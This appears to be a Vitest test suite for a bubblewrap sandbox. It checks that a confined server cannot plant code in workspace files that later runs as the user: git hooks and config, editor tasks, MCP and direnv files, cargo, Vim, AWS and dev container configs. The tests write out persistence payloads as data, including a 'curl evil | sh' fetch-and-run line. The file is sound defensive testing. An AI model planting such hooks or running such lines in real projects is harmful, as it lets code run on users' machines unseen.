/**
 * Escape suite, workspace files: a server that may write a project folder tries to plant code
 * that runs later as the user, outside any sandbox, when the user merely works there: a git hook,
 * `core.fsmonitor` in `.git/config` (run by every `git status`, and by shell prompts that call
 * it), a `.git/commondir` pointing git at a config of its own, a `.git` of its own in place of the
 * real one, an editor task run on opening the folder, a project MCP server, a direnv file. Each
 * is kept read-only under bubblewrap (git still reads the repo; a server that commits needs the
 * exception); so are a dev container's, cargo's, Vim's and the AWS CLI's configs, and a new
 * `.local` (whose `bin` is on the PATH) stops the server. The Landlock sandbox keeps them
 * another way, tried in escape-workspace-landlock.test.ts.
 */
import { execFileSync } from 'node:child_process';
import { chmod, mkdir, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Fixture, makeFixture, sandboxStatus, sh } from './harness';
import { plantInRepository } from './workspace-plants';

const status = await sandboxStatus();

describe.skipIf(!status.usable)(`escape: workspace files (${status.backend})`, () => {
  let f: Fixture;
  let repo: string;
  let tools: string;
  const config = () => readFile(join(repo, '.git', 'config'), 'utf8');
  beforeAll(async () => {
    f = await makeFixture();
    repo = join(f.rw, 'repo');
    await mkdir(join(repo, 'sub', 'deep', '.vscode'), { recursive: true });
    execFileSync('git', ['init', '-q', repo]);
    await writeFile(join(repo, 'a.txt'), 'a\n');
    await writeFile(join(repo, '.mcp.json'), '{"mcpServers":{}}\n');
    await writeFile(join(repo, '.envrc'), 'export A=1\n');
    await mkdir(join(repo, '.vscode'));
    await writeFile(join(repo, '.vscode', 'settings.json'), '{}\n');
    await writeFile(join(repo, '.vscode', '.env'), 'SECRET-IN-VSCODE\n');
    await writeFile(join(repo, 'sub', 'deep', '.vscode', 'tasks.json'), '{}\n');
    await writeFile(join(repo, '.pre-commit-config.yaml'), 'repos: []\n');
    await writeFile(join(repo, 'lefthook.yml'), 'pre-commit: {}\n');
    await mkdir(join(repo, 'lib', '.hg'), { recursive: true });
    await writeFile(join(repo, 'lib', '.hg', 'hgrc'), '[ui]\n');
    await mkdir(join(repo, '.gemini'));
    await writeFile(join(repo, '.gemini', 'settings.json'), '{}\n');
    // A project with a dev container, cargo's and Vim's configs; a home-like folder's AWS config.
    tools = join(f.rw, 'tools');
    await mkdir(join(tools, '.devcontainer'), { recursive: true });
    await writeFile(join(tools, '.devcontainer', 'devcontainer.json'), '{}\n');
    await mkdir(join(tools, '.cargo'));
    await writeFile(join(tools, '.cargo', 'config.toml'), '[build]\n');
    await writeFile(join(tools, '.exrc'), '" none\n');
    await mkdir(join(tools, '.aws'));
    await writeFile(join(tools, '.aws', 'config'), '[default]\n');
  });
  afterAll(() => f.cleanup());

  describe.skipIf(status.backend === 'landlock')('under bubblewrap', () => {
    it("cannot plant a git hook, change git's config or point git at another", async () => {
      const before = await config();
      const r = await sh(
        ['--rw', f.rw],
        `cd ${repo} && ${plantInRepository(f.rw)}mv .git/hooks .git/hooks-old && echo MOVED`,
        f.hostEnv,
      );
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(/read-only file system/i);
      expect(await config()).toBe(before);
      expect(await readdir(join(repo, '.git', 'hooks'))).not.toContain('pre-commit');
      expect(await readdir(join(repo, '.git'))).not.toContain('commondir');
    });

    it('cannot move the .git folder aside or empty it to plant its own', async () => {
      const r = await sh(
        ['--rw', f.rw],
        `cd ${repo} && mv .git .git-old && echo MOVED; rm -rf .git; cat .git/HEAD`,
        f.hostEnv,
      );
      expect(r.stdout).not.toContain('MOVED');
      expect(r.stdout).toMatch(/^ref: refs\/heads\//);
      expect(r.stderr).toMatch(/busy/i);
      expect(r.stderr).toMatch(/read-only file system/i);
      expect(await readFile(join(repo, '.git', 'HEAD'), 'utf8')).toMatch(/^ref: /);
    });

    it("cannot change the editor's tasks, a project MCP config or a direnv file", async () => {
      const r = await sh(
        ['--rw', f.rw],
        `cd ${repo} && echo '{"tasks":[]}' > .vscode/tasks.json && echo TASKS; ` +
          `echo x > sub/deep/.vscode/tasks.json && echo DEEP; ` +
          `echo '{"mcpServers":{"evil":{}}}' > .mcp.json && echo MCP; rm -f .mcp.json; ` +
          `echo 'curl evil | sh' >> .envrc && echo ENVRC; cat .vscode/.env`,
        f.hostEnv,
      );
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(/read-only file system/i);
      expect(await readFile(join(repo, '.mcp.json'), 'utf8')).toBe('{"mcpServers":{}}\n');
      expect(await readFile(join(repo, '.envrc'), 'utf8')).toBe('export A=1\n');
      expect(await readFile(join(repo, 'sub/deep/.vscode/tasks.json'), 'utf8')).toBe('{}\n');
      await expect(readFile(join(repo, '.vscode', 'tasks.json'))).rejects.toThrow();
    });

    it('cannot change what a commit hook runner, Mercurial or another AI client runs', async () => {
      const plant =
        `cd ${repo} && ` +
        `printf 'repos: [{repo: local, hooks: [{id: x, entry: "touch /tmp/owned"}]}]' ` +
        `> .pre-commit-config.yaml && echo PRECOMMIT; ` +
        `echo 'pre-commit: {commands: {x: {run: touch /tmp/owned}}}' > lefthook.yml && echo LEFTHOOK; ` +
        `echo 'pre-commit: {}' > .lefthook-local.yml && echo LOCAL; ` +
        `printf '[hooks]\\npre-status = touch /tmp/owned\\n' >> lib/.hg/hgrc && echo HG; ` +
        `echo '{"mcpServers":{"evil":{}}}' > .gemini/settings.json && echo GEMINI; ` +
        `echo '{"mcp":{}}' > opencode.json && echo OPENCODE`;
      const r = await sh(['--rw', f.rw], `${plant}; sleep 5; echo ALIVE`, f.hostEnv);
      // The existing ones are read-only; the new ones stop the server and are moved aside.
      expect(r.stdout).not.toMatch(/PRECOMMIT|LEFTHOOK|HG|GEMINI|ALIVE/);
      expect(r.stderr).toMatch(/read-only file system/i);
      expect(r.code).toBe(125);
      expect(r.stderr).toMatch(
        /stopped: it created \S*\/repo\/(\.lefthook-local\.yml|opencode\.json)/,
      );
      expect(await readFile(join(repo, '.pre-commit-config.yaml'), 'utf8')).toBe('repos: []\n');
      expect(await readFile(join(repo, 'lefthook.yml'), 'utf8')).toBe('pre-commit: {}\n');
      expect(await readFile(join(repo, 'lib/.hg/hgrc'), 'utf8')).toBe('[ui]\n');
      expect(await readFile(join(repo, '.gemini/settings.json'), 'utf8')).toBe('{}\n');
      const names = await readdir(repo);
      expect(names).not.toContain('.lefthook-local.yml');
      expect(names).not.toContain('opencode.json');
      for (const aside of names.filter((n) => n.includes('.moved-by-warden-')))
        await rm(join(repo, aside), { recursive: true });
      // The control: excepted, the same writes go through.
      const except = ['.pre-commit-config.yaml', 'lefthook.yml', '.hg', '.gemini'];
      const allowed = await sh(
        ['--rw', f.rw, ...except.flatMap((n) => ['--unprotect', n])],
        `cd ${repo} && echo x > .pre-commit-config.yaml && echo x > lefthook.yml && ` +
          `echo x >> lib/.hg/hgrc && echo x > .gemini/settings.json && echo WRITTEN`,
        f.hostEnv,
      );
      expect(allowed.stdout).toBe('WRITTEN\n');
    });

    it('cannot change what a dev container, cargo, Vim or a cloud CLI runs, nor put a command on the PATH', async () => {
      const plant =
        `cd ${tools} && ` +
        `echo '{"initializeCommand":"touch /tmp/owned"}' > .devcontainer/devcontainer.json && echo DEV; ` +
        `printf '[build]\\nrustc-wrapper = "/tmp/owned"\\n' > .cargo/config.toml && echo CARGO; ` +
        `echo '!touch /tmp/owned' >> .exrc && echo EXRC; ` +
        `echo 'credential_process = touch /tmp/owned' >> .aws/config && echo AWS; ` +
        `mkdir -p .local/bin && echo 'touch /tmp/owned' > .local/bin/git && echo LOCAL`;
      const r = await sh(['--rw', f.rw], `${plant}; sleep 5; echo ALIVE`, f.hostEnv);
      // The existing ones are read-only; the new one stops the server and is moved aside.
      expect(r.stdout).not.toMatch(/DEV|CARGO|EXRC|AWS|ALIVE/);
      expect(r.stderr).toMatch(/read-only file system/i);
      expect(r.code).toBe(125);
      expect(r.stderr).toMatch(/stopped: it created \S*\/tools\/\.local/);
      expect(await readFile(join(tools, '.devcontainer/devcontainer.json'), 'utf8')).toBe('{}\n');
      expect(await readFile(join(tools, '.cargo/config.toml'), 'utf8')).toBe('[build]\n');
      expect(await readFile(join(tools, '.exrc'), 'utf8')).toBe('" none\n');
      expect(await readFile(join(tools, '.aws/config'), 'utf8')).toBe('[default]\n');
      const names = await readdir(tools);
      expect(names).not.toContain('.local');
      for (const aside of names.filter((n) => n.includes('.moved-by-warden-')))
        await rm(join(tools, aside), { recursive: true });
      // The control: excepted, the same writes go through.
      const except = ['.devcontainer', '.cargo', '.exrc', '.aws'];
      const allowed = await sh(
        ['--rw', f.rw, ...except.flatMap((n) => ['--unprotect', n])],
        `cd ${tools} && echo x > .devcontainer/devcontainer.json && echo x > .cargo/config.toml && ` +
          `echo x >> .exrc && echo x >> .aws/config && echo WRITTEN`,
        f.hostEnv,
      );
      expect(allowed.stdout).toBe('WRITTEN\n');
    });

    it('reads the repo with git, and writes the rest of the folder', async () => {
      const r = await sh(
        ['--rw', f.rw],
        `cd ${repo} && echo b > b.txt && cat b.txt && git status --short | wc -l && ` +
          `git add b.txt || echo ADD-REFUSED`,
        f.hostEnv,
      );
      expect(r.stdout.split('\n').map((s) => s.trim())).toEqual(['b', '10', 'ADD-REFUSED', '']);
    });

    it('cannot move the folder holding a repository aside to leave a copy in its place', async () => {
      const r = await sh(
        ['--rw', f.rw],
        `cd ${f.rw} && mv repo repo.old && echo MOVED; mkdir -p node_modules && ` +
          `mv repo node_modules/x && echo HIDDEN; mv repo/sub repo/sub2 && echo SUB-MOVED`,
        f.hostEnv,
      );
      expect(r.stdout).not.toMatch(/MOVED|HIDDEN/);
      expect(r.stderr).toMatch(/busy/i);
      expect(await readFile(join(repo, '.git', 'HEAD'), 'utf8')).toMatch(/^ref: /);
    });

    it("keeps what git reads through a repository: a worktree's shared repository, a hooks folder it names", async () => {
      const place = join(f.base, 'git-reads');
      const git = (...args: string[]) => execFileSync('git', ['-C', place, ...args]);
      await mkdir(join(place, 'app', '.githooks'), { recursive: true });
      git('init', '-q', 'src');
      git(
        '-C',
        'src',
        '-c',
        'user.name=w',
        '-c',
        'user.email=w@example.invalid',
        'commit',
        '-q',
        '--allow-empty',
        '-m',
        'a',
      );
      git('clone', '-q', '--bare', 'src', 'proj.git');
      git('-C', 'proj.git', 'worktree', 'add', '-q', '../main');
      git('init', '-q', 'app');
      git('-C', 'app', 'config', 'core.hooksPath', '.githooks');
      const before = await readFile(join(place, 'proj.git', 'config'), 'utf8');
      const r = await sh(
        ['--rw', place],
        `cd ${place}/main && git config core.fsmonitor 'touch /tmp/owned' && echo CONFIGURED; ` +
          `echo 'touch /tmp/owned' > ${place}/proj.git/hooks/post-checkout && echo HOOKED; ` +
          `echo 'touch /tmp/owned' > ${place}/app/.githooks/pre-commit && echo APP-HOOKED`,
        f.hostEnv,
      );
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(/read-only file system/i);
      expect(await readFile(join(place, 'proj.git', 'config'), 'utf8')).toBe(before);
      expect(await readdir(join(place, 'app', '.githooks'))).toEqual([]);
    });

    it('refuses to start with a .git that is a symlink in a writable folder', async () => {
      const place = join(f.base, 'linked');
      await mkdir(join(place, 'store'), { recursive: true });
      execFileSync('git', ['init', '-q', '--bare', join(place, 'store', 'proj.git')]);
      await mkdir(join(place, 'proj'));
      await symlink(join(place, 'store', 'proj.git'), join(place, 'proj', '.git'));
      const r = await sh(['--rw', place], 'echo STARTED', f.hostEnv);
      expect(r.stdout).not.toContain('STARTED');
      expect(r.stderr).toMatch(/proj\/\.git is a symlink in a folder this server may write/);
    });

    it('cannot swap a repository it made unlistable at its next launch', async () => {
      const place = join(f.base, 'unlistable');
      await mkdir(join(place, 'org'), { recursive: true });
      execFileSync('git', ['init', '-q', join(place, 'org', 'p')]);
      const first = await sh(['--rw', place], `chmod 000 ${place}/org/p && echo LOCKED`, f.hostEnv);
      expect(first.stdout).toBe('LOCKED\n');
      try {
        // Masked whole now, and what holds it still cannot be moved aside.
        const r = await sh(
          ['--rw', place],
          `cd ${place} && mkdir node_modules && mv org node_modules/org && echo SWAPPED`,
          f.hostEnv,
        );
        expect(r.stdout).not.toContain('SWAPPED');
        expect(r.stderr).toMatch(/busy/i);
      } finally {
        await chmod(join(place, 'org', 'p'), 0o755);
      }
    });

    it('keeps what a repository above the folder names in it, and a bare repository', async () => {
      const outer = join(f.base, 'outer');
      execFileSync('git', ['init', '-q', outer]);
      await mkdir(join(outer, 'tools', 'hooks'), { recursive: true });
      execFileSync('git', ['-C', outer, 'config', 'core.hooksPath', 'tools/hooks']);
      execFileSync('git', ['init', '-q', '--bare', join(outer, 'tools', 'remote.git')]);
      const r = await sh(
        ['--rw', join(outer, 'tools')],
        `echo 'touch /tmp/owned' > ${outer}/tools/hooks/pre-commit && echo HOOKED; ` +
          `echo 'touch /tmp/owned' > ${outer}/tools/remote.git/hooks/post-receive && echo BARE`,
        f.hostEnv,
      );
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(/read-only file system/i);
      // A hooks folder it names that is missing there would be the server's to make: refused.
      execFileSync('git', ['-C', outer, 'config', 'core.hooksPath', 'tools/missing']);
      const refused = await sh(['--rw', join(outer, 'tools')], 'echo STARTED', f.hostEnv);
      expect(refused.stdout).not.toContain('STARTED');
      expect(refused.stderr).toMatch(/tools\/missing, which does not exist/);
    });

    it('writes them where the policy makes an exception', async () => {
      const r = await sh(
        ['--rw', f.rw, '--unprotect', '.vscode', '--unprotect', '.git'],
        `cd ${repo} && echo '{}' > .vscode/tasks.json && git config warden.test yes && ` +
          `git add a.txt && git -c user.name=w -c user.email=w@example.invalid commit -qm a && ` +
          `git log --oneline | wc -l; echo x > .mcp.json || echo MCP-REFUSED`,
        f.hostEnv,
      );
      expect(r.stdout).toBe('1\nMCP-REFUSED\n');
      expect(await config()).toContain('test = yes');
      // Even excepted, a .env inside is still hidden.
      const env = await sh(
        ['--rw', f.rw, '--unprotect', '.vscode'],
        `cat ${repo}/.vscode/.env`,
        f.hostEnv,
      );
      expect(env.stdout).not.toContain('SECRET');
    });
  });
});
